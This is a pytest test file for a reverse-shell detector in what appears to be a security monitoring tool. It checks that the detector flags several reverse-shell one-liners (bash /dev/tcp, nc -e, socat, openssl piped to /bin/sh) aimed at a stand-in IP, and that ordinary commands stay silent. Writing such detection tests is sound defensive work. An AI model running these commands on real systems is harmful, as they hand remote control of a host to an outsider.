"""D08: a shell talks to the network."""

import pytest

from ringfence.watch.detectors import reverse_shell
from ringfence.wire.ocsf import classes
from tests.watch.events import both_ways, event, flow
from tests.watch.hostile import LATER, hostile


def started(command: str):
    """A program starts in a job."""
    said = {"process__cmd_line": command, "process__name": "bash", "process__user__name": "ada", "job__uid": "job:1"}
    return event(classes.PROCESS, 1, 60, "gpu0001", **said)


@pytest.mark.parametrize(
    "command",
    [
        "bash -i >& /dev/tcp/11.1.1.1/4444 0>&1",
        "nc -e /bin/sh 11.1.1.1 4444",
        "socat tcp:11.1.1.1:443 exec:/bin/bash",
        "python3 -c 'import socket,os,pty;pty.spawn(\"/bin/sh\")'",
        "openssl s_client -quiet -connect 11.1.1.1:443 | /bin/sh",
    ],
)
def test_commands_that_start_one_are_told(command: str):
    """As they are known."""
    found = both_ways(reverse_shell, [started(command)])
    assert [one.entities for one in found] == [("host:gpu0001", "job:1", "identity:ada")]
    assert found[0].holds == ("host:gpu0001#user", "identity:ada#use")


def test_a_connection_of_a_shell_itself_is_told():
    """However little it says."""
    said = {"actor__process__name": "sh", "actor__user__name": "ada", "job__uid": "job:1"}
    assert len(both_ways(reverse_shell, [flow(LATER, "gpu0001", "11.1.1.1", 443, 200, **said)])) == 1


@pytest.mark.parametrize(
    "command", ["bash train.sh", "python3 train.py --socket-timeout 9", "ssh -i key host", "sync -f /a"]
)
def test_honest_commands_and_connections_of_programs_are_silent(command: str):
    """Scripts are run by shells all day."""
    said = {"actor__process__name": "python3", "actor__user__name": "ada", "job__uid": "job:1"}
    assert both_ways(reverse_shell, [started(command), flow(70, "gpu0001", "11.1.1.1", **said)]) == []


def test_hostile_input_does_no_harm():
    """Odd names, numbers and times."""
    hostile(reverse_shell)
